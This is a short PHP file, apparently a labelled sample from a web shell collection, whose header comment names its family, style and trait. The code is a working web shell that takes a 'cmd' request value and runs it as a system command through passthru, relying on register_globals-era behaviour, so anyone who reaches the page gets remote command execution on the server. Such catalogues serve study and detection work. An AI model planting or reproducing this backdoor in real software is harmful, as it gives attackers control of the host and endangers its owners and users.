<?php
/* Family: webshell/exec-request
 * Style: register_globals-era runner
 * Trait: checks $_GET['cmd'] but runs the bare $cmd (register_globals made it the request value) through a helper
 */
function run_buf($c) { @ob_start(); @passthru($c); $o = @ob_get_contents(); @ob_end_clean(); return $o; }
if (isset($_GET['cmd']) && $_GET['cmd'] != "") {
	echo run_buf($cmd);
}
